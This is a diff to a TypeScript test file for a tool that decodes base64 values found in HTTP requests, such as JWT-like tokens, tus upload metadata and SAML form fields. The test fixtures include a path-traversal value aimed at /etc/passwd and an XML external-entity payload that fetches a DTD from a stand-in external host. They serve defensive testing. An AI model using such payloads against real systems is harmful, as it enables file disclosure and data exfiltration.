@@ -385,6 +385,17 @@ describe('placements', () => {
     );
   });
 
+  it('unwraps unpadded base64 of a JSON object (a JWT-like state token) even without a URL-safe character, and no other unpadded base64', () => {
+    const token = '{"path":"../../../../etc/passwd","exp":1999999999}';
+    const unpadded = Buffer.from(token).toString('base64').replace(/=+$/, '');
+    expect(unpadded).not.toMatch(/[-_+/=]/);
+    expect(base64Text(unpadded)).toBe(token);
+    // The same unpadded alphabet without the `{"` lead is an identifier more often than base64.
+    const prose = Buffer.from('GET the file listing now!').toString('base64').replace(/=+$/, '');
+    expect(prose).not.toMatch(/[-_+/=]/);
+    expect(base64Text(prose)).toBeUndefined();
+  });
+
   it("reads a tus upload's Upload-Metadata values decoded from base64", () => {
     const b64 = (text: string) => Buffer.from(text).toString('base64');
     expect(uploadMetadataValues(`filename ${b64("a'.txt")},filetype ${b64('text/plain')},is_confidential`)).toEqual([
@@ -478,7 +489,12 @@ describe('placements', () => {
         view({ method: 'POST', target: '/sso', requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']], requestBody: `SAMLResponse=${value}` }),
       );
     expect(read(base64)).toContain(`body_form:SAMLResponse (base64)=${xml}`);
+    // ... also where a `+` was its last character (a trailing space after the decoding)
+    const endsInPlus = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % a SYSTEM "http://203.0.113.9/s.dtd"> %a;]><samlp:Response  >';
+    expect(Buffer.from(endsInPlus).toString('base64')).toMatch(/\+$/);
+    expect(read(Buffer.from(endsInPlus).toString('base64'))).toContain(`body_form:SAMLResponse (base64)=${endsInPlus}`);
     expect(read('meet me at the cafe near the station tomorrow').some((l) => l.includes('(base64)'))).toBe(false);
+    expect(read('meet me at the cafe near the station tomorrow ').some((l) => l.includes('(base64)'))).toBe(false);
   });
 
   it('reads a protocol header whose value is not what the header holds, and a Cookie header that is no pairs, whole', () => {
